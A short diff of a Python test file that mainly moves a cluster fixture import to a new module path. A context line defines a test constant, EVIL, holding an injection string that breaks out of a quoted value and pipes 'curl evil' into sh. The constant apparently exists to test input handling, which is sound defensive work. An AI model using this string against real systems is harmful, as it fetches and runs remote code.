@@ -26,7 +26,7 @@ from tests.services.conftest import (
     create_pool,
     our_definitions,
 )
-from tests.support.cluster_fixture import connect, embedded_api_server, write_kubeconfig
+from tests.support.cluster.fixture import connect, embedded_api_server, write_kubeconfig
 
 EVIL = "x'; curl evil|sh #"
 ANYTHING = {"type": "object", "x-kubernetes-preserve-unknown-fields": True}
